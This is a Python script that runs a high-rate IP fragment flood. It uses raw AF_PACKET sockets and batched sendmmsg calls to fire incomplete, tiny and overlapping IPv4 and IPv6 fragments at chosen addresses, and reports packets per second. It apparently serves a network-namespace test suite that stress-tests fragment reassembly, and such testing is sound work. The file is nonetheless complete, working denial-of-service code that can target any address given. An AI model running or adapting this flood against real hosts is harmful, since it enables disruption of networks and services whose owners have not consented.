#!/usr/bin/env python3
"""A fragment attack, as fast as this machine sends: IPv4 and IPv6 fragments
that never make a datagram, written straight into a device with an
AF_PACKET socket and sendmmsg(2) batches (no local IP stack on the way).

    frag_attack.py DEV SECONDS SRC4 DST4 SRC6 DST6

Three kinds, in both families, mixed in one ring of prebuilt packets:

* incomplete datagrams with fresh ids: a first fragment (UDP header and
  1,192 bytes, more fragments set) whose datagram never gets another one;
  each holds a queue record and five 256-byte chunks (2.1 KiB of the
  reassembler's cap) until it is evicted;
* tiny incomplete datagrams: one 8-byte fragment at offset 64, fresh id;
* tiny overlapping fragments: 16 bytes at offset 0, then 16 bytes at
  offset 8 of the same datagram (RFC 5722: the datagram is discarded).

Ids are fresh: the ring of 131,072 packets uses 49,152 of the 65,536 IPv4
ids there are for one source, destination and protocol (and as many IPv6
ones), and a queue is evicted long before its id comes round again (the
default reassembler holds about 2,500 of these queues). Only the addresses
given are used (the netns suite passes its server as source and its client
as destination). A packet the device refuses (its queue full: ENOBUFS) is
sent again. Prints one line of JSON at the end: packets the device took,
by kind, and their rate.
"""

import ctypes
import ctypes.util
import json
import socket
import struct
import sys
import time

from fraglib import IPPROTO_UDP, v4_fragment, v6_fragment

ETH_P_IP = 0x0800
ETH_P_IPV6 = 0x86DD
SOL_PACKET = 263
PACKET_QDISC_BYPASS = 20
BATCH = 256
PORT = 9  # discard; the datagrams never complete anyway


def udp_head(length):
    return struct.pack("!HHHH", 40000, PORT, length, 0)


def ring(src4, dst4, src6, dst6):
    """(packet, is_v6) for 16,384 rounds of the mix, every datagram its
    own id."""
    s4, d4 = socket.inet_pton(socket.AF_INET, src4), socket.inet_pton(socket.AF_INET, dst4)
    s6, d6 = socket.inet_pton(socket.AF_INET6, src6), socket.inet_pton(socket.AF_INET6, dst6)
    big = udp_head(8 + 2400) + b"A" * 1192
    tiny = b"B" * 8
    o1, o2 = b"C" * 16, b"D" * 16
    out = []
    # One round of 8: a big first fragment, a tiny one and an overlapping
    # pair, in each family (2 incomplete, 2 tiny, 4 overlapping).
    for r in range(16384):
        i, j = r * 4, 0x10000000 + r * 4
        out += [
            (v4_fragment(s4, d4, IPPROTO_UDP, i, 0, True, big), False),
            (v6_fragment(s6, d6, IPPROTO_UDP, j, 0, True, big), True),
            (v4_fragment(s4, d4, IPPROTO_UDP, i + 1, 64, True, tiny), False),
            (v6_fragment(s6, d6, IPPROTO_UDP, j + 1, 64, True, tiny), True),
            (v4_fragment(s4, d4, IPPROTO_UDP, i + 2, 0, True, o1), False),
            (v4_fragment(s4, d4, IPPROTO_UDP, i + 2, 8, True, o2), False),
            (v6_fragment(s6, d6, IPPROTO_UDP, j + 2, 0, True, udp_head(64) + o1[:8]), True),
            (v6_fragment(s6, d6, IPPROTO_UDP, j + 2, 8, True, o2), True),
        ]
    return out


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p),
        ("namelen", ctypes.c_uint32),
        ("iov", ctypes.POINTER(Iovec)),
        ("iovlen", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("controllen", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    ]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", Msghdr), ("len", ctypes.c_uint)]


class SockaddrLl(ctypes.Structure):
    _fields_ = [
        ("family", ctypes.c_ushort),
        ("protocol", ctypes.c_ushort),
        ("ifindex", ctypes.c_int),
        ("hatype", ctypes.c_ushort),
        ("pkttype", ctypes.c_ubyte),
        ("halen", ctypes.c_ubyte),
        ("addr", ctypes.c_ubyte * 8),
    ]


def main():
    dev, seconds, src4, dst4, src6, dst6 = sys.argv[1], float(sys.argv[2]), *sys.argv[3:7]
    pkts = ring(src4, dst4, src6, dst6)
    libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
    # Protocol 0: the socket sends only, it receives nothing.
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    ifindex = socket.if_nametoindex(dev)
    names = []
    for proto in (ETH_P_IP, ETH_P_IPV6):
        a = SockaddrLl()
        a.family = socket.AF_PACKET
        a.protocol = socket.htons(proto)
        a.ifindex = ifindex
        names.append(a)
    # Every packet's mmsghdr, built once; a batch is a slice of the array.
    n = len(pkts)
    bufs = [ctypes.create_string_buffer(p, len(p)) for p, _ in pkts]
    iovs = (Iovec * n)()
    msgs = (Mmsghdr * (n + BATCH))()
    for i, (p, _) in enumerate(pkts):
        iovs[i].base = ctypes.addressof(bufs[i])
        iovs[i].len = len(p)
    for i in range(n + BATCH):
        j = i % n
        m = msgs[i].hdr
        m.name = ctypes.addressof(names[1 if pkts[j][1] else 0])
        m.namelen = ctypes.sizeof(SockaddrLl)
        m.iov = ctypes.pointer(iovs[j])
        m.iovlen = 1
    total = 0
    at = 0
    fd = s.fileno()
    size = ctypes.sizeof(Mmsghdr)
    base = ctypes.addressof(msgs)
    t0 = time.monotonic()
    deadline = t0 + seconds
    while time.monotonic() < deadline:
        r = libc.sendmmsg(fd, ctypes.c_void_p(base + at * size), BATCH, 0)
        if r <= 0:
            err = ctypes.get_errno()
            if err in (105, 11):  # ENOBUFS, EAGAIN: the device is full; go on
                continue
            print(f"sendmmsg: {err}", file=sys.stderr)
            sys.exit(1)
        total += r
        at = (at + r) % n
    t = time.monotonic() - t0
    # The ring repeats one round of 8: 2 incomplete, 2 tiny, 4 overlapping.
    rounds, rest = divmod(total, 8)
    sent = {
        "incomplete": 2 * rounds + min(rest, 2),
        "tiny": 2 * rounds + min(max(rest - 2, 0), 2),
        "overlap": 4 * rounds + max(rest - 4, 0),
    }
    print(json.dumps({"sent": total, "by_kind": sent, "seconds": round(t, 2), "pps": int(total / t)}))


if __name__ == "__main__":
    main()
